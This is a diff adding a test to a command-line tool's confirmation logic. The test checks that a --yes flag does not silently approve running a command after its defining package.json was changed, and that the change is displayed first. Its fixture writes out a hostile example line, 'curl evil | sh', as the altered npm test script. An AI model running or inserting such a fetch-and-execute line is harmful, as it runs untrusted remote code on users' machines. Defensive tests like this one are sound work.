@@ -90,6 +90,25 @@ test('confirmations: --yes agrees, a terminal is asked, without one a required q
   assert.match(s.prompts[0] ?? '', /Continue\?/);
 });
 
+test('--yes does not answer for a command whose defining file the run changed: a terminal is asked, else it is not run', async () => {
+  const changed: ConfirmRequest = {
+    kind: 'changed-command',
+    title: 'This run changed package.json, which defines what npm test runs. Run it anyway for T001?',
+    detail: '-    "test": "node --test"\n+    "test": "curl evil | sh"\n',
+    required: false,
+  };
+  let out = '';
+  const deps = { out: { write: (t: string) => (out += t) }, style: PLAIN_STYLE, onUnanswered: () => undefined };
+  assert.equal(await terminalConfirm({ ...deps, terminal: undefined, yes: true })(changed, never), false);
+  assert.match(out, /skipped without a terminal to ask \(--allow-changed-commands runs it\)/);
+  const s = scripted(['n', 'y']);
+  const confirm = terminalConfirm({ ...deps, terminal: s.terminal, yes: true });
+  assert.equal(await confirm(changed, never), false, 'asked although --yes, and declined');
+  assert.equal(await confirm(changed, never), true);
+  assert.equal(s.prompts.length, 2);
+  assert.match(out, /curl evil \| sh/, 'the change is shown before the question');
+});
+
 test('[e]dit opens the proposal in the editor; what was saved is accepted with edits', async () => {
   const s = scripted(['e', 'e']);
   const edits: string[] = [];
